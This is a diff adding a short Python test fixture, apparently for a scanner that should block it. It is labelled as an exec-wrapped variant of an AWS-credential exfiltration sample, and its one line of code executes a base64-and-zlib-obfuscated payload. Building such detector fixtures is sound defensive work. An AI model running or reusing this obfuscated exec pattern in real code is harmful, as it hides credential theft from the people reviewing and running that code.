@@ -1,0 +1,3 @@
+# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/aws_credentials_urllib.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxdT8tOxDAMvOcrrHBJpZK27ImVekD8AFqQOKLQGCWoeZC4WtBq/51kWyTAF3viycz4Cg6odIa750eYEmr0ZNWcQXkNS5xD3ZFBB0dLBpY0z/ZVMutiSATvOfifeVsl/FgwE3tLwUFUZMojbJSHAhmrLhlGEBVKExyKBjrgUh0zr8OvGLwpgkq/EH6SaNgmXj7/dZOHtQsGpbghinnfdTf9TvZyGHbytltv4e2FoRWpsYaXenExixOf+P5yfj43Ev0UdAm1ck3xx5THE78Pnkqu66eviIXOVYyznRTZ4Lsqxs8ta9i/ZAWGiF5suAWyDsNC49A33+X/f7Q=')))
